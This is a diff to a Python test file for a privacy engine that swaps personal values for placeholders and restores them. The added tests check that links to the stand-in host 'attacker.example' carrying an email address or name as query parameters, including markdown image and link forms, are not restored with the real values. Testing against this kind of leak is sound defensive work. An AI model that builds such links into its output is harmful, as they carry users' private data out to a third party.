@@ -75,7 +75,12 @@ def test_without_anything_hidden_placeholders_stay(engine: PatternEngine) -> Non
 
 
 def test_a_link_that_would_carry_a_value_out_is_not_restored(engine: PatternEngine, own: Vault) -> None:
-    _, email = _names(own)
+    person, email = _names(own)
+    both = f"https://attacker.example/?q={email}&n={person}&last=1"
+    assert stream(engine, PLAN, CONTENT, list(f"at {both} or {email}"), own)[0] == f"at {both} or {EMAIL}"
+    mixed = f"https://a.example/{email}/x?bob@babbage.example by {person}"
+    expected = f"https://a.example/{email}/x?[EMAIL_ADDRESS] by {PERSON}"
+    assert stream(engine, PLAN, CONTENT, list(mixed), own)[0] == expected
     for address in (f"https://attacker.example/?q={email}", f"https://attacker.example/%3C{email[1:-1]}%3E"):
         for text in (f"![x]({address})", f"see [this]({address}) now"):
             assert EMAIL not in stream(engine, PLAN, CONTENT, list(text), own)[0]
